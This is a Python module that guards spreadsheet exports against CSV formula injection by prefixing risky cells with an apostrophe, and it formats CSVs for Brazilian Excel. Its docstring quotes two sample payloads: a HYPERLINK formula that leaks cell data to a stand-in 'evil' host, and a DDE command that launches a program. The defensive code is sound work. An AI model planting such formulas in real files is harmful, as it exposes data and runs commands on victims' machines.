"""CSV/spreadsheet exports that cannot run formulas ("CSV injection").

A customer controls their WhatsApp profile name, a spreadsheet row or a message: a cell
like ``=HYPERLINK("https://evil/?"&A2,"ver")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` becomes
a live formula when an agent opens the export in Excel or LibreOffice. Every cell that
starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe
(OWASP's advice: spreadsheets show the text, never evaluate it). Plain numbers such as an
E.164 phone ``+5511987654321`` or ``-12.5`` stay as they are: they cannot be formulas.

Every export goes through :func:`neutralize` (via :class:`SafeWriter`), one place, and
is written by :class:`ExcelCsv`: what Excel pt-BR opens right with a double click — a
UTF-8 BOM (else "São" reads "SÃ£o"), ``;`` between cells (Excel-BR's list separator is
``;`` because ``,`` is the decimal comma), CRLF, and moments in the client's zone as
``dd/mm/aaaa HH:MM`` (Excel reads that as a date, not text in UTC).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from datetime import UTC, date, datetime, tzinfo
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d ]*(?:[.,]\d+)?")

__all__ = ["BOM", "FORMULA_STARTS", "ExcelCsv", "SafeWriter", "neutralize"]

BOM = "\ufeff"
EXCEL_MOMENT = "%d/%m/%Y %H:%M"
EXCEL_DAY = "%d/%m/%Y"


def neutralize(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell (non-text values are returned unchanged)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralize`."""

    def __init__(self, buffer: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(buffer, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class ExcelCsv:
    """Lines of a CSV for Excel pt-BR (see the module docstring), one call per line so
    exports can stream. Cells are neutralized; ``None`` is empty; datetimes are shown in
    ``zone`` (naive ones are UTC, as the database stores them)."""

    def __init__(self, zone: tzinfo) -> None:
        self.zone = zone
        self._buffer = io.StringIO()
        self._writer = SafeWriter(self._buffer, delimiter=";", lineterminator="\r\n")

    def cell(self, value: Any) -> Any:
        if value is None:
            return ""
        if isinstance(value, datetime):
            moment = value if value.tzinfo else value.replace(tzinfo=UTC)
            return moment.astimezone(self.zone).strftime(EXCEL_MOMENT)
        if isinstance(value, date):
            return value.strftime(EXCEL_DAY)
        return value

    def line(self, cells: Iterable[Any]) -> str:
        self._buffer.seek(0)
        self._buffer.truncate()
        self._writer.writerow([self.cell(c) for c in cells])
        return self._buffer.getvalue()

    def header(self, cells: Iterable[Any]) -> str:
        """The first line, with the BOM in front."""
        return BOM + self.line(cells)
